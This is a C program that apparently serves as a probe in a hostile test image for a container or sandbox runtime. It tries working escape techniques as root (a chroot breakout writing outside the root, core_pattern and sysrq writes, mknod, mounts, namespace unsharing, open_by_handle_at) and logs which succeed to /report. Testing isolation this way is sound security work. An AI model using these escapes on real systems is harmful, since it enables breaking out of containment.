/* A program of a hostile image that runs as root: tries the ways out, and tells in /report which of them it found. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *report;

static void way(const char *name, int found) {
    if (found) fprintf(report, "%s\n", name);
    fflush(report);
}

static int opens(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) close(fd);
    return fd >= 0;
}

/* The textbook's way out of a chroot: chroot(2), and what a user namespace of our own allows. */
static int out_of_chroot(const char *target) {
    mkdir("/x", 0755);
    int old = open("/", O_RDONLY);
    int done = chroot("/x") == 0;
    if (fchdir(old)) return 0;
    for (int i = 0; i < 64; i++) if (chdir("..")) return 0;
    if (chroot(".")) done = 0;
    int fd = open(target, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { (void)!write(fd, "here\n", 5); close(fd); }
    if (fchdir(old)) return 0;
    if (chroot(".")) return done;
    return fd >= 0;
}

static void in_namespaces_of_our_own(void) {
    if (fork() == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID)) _exit(0);
        if (fork() == 0) {
            mount("proc", "/proc", "proc", 0, NULL);
            mount(NULL, "/proc", NULL, MS_REMOUNT | MS_BIND, NULL);
            mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
            way("core_pattern in a user namespace", opens("/proc/sys/kernel/core_pattern"));
            way("a device of the image in a user namespace", opens("/var/lib/kmsg"));
            way("chroot in a user namespace", out_of_chroot(TARGET));
            _exit(0);
        }
        wait(NULL);
        _exit(0);
    }
    wait(NULL);
}

int main(void) {
    char line[256], handle[256];
    report = fopen("/report", "a");
    if (!report) return 1;
    way("core_pattern", opens("/proc/sys/kernel/core_pattern"));
    way("sysrq-trigger", opens("/proc/sysrq-trigger"));
    way("a device of the image", opens("/var/lib/kmsg"));
    way("the terminal", opens("/dev/tty"));
    way("mknod", mknod("/var/lib/made", S_IFCHR | 0600, makedev(1, 11)) == 0);
    way("mount", mount("none", "/var", "tmpfs", 0, NULL) == 0);
    way("remount", mount(NULL, "/proc", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
    way("umount", umount2("/proc", MNT_DETACH) == 0);
    way("a mount namespace", unshare(CLONE_NEWNS) == 0);
    struct file_handle *of_root = (struct file_handle *)handle;
    of_root->handle_bytes = 128;
    int id, here = open("/", O_RDONLY);
    if (name_to_handle_at(AT_FDCWD, "/etc", of_root, &id, 0) == 0)
        way("open_by_handle_at", open_by_handle_at(here, of_root, O_RDONLY) >= 0);
    struct if_nameindex *each = if_nameindex();
    for (int i = 0; each && each[i].if_index; i++) way("a network", strcmp(each[i].if_name, "lo") != 0);
    way("chroot", out_of_chroot(TARGET));
    in_namespaces_of_our_own();
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "CapInh:", 7) || !strncmp(line, "NSpid:", 6)) fputs(line, report);
    fclose(report);
    return 0;
}
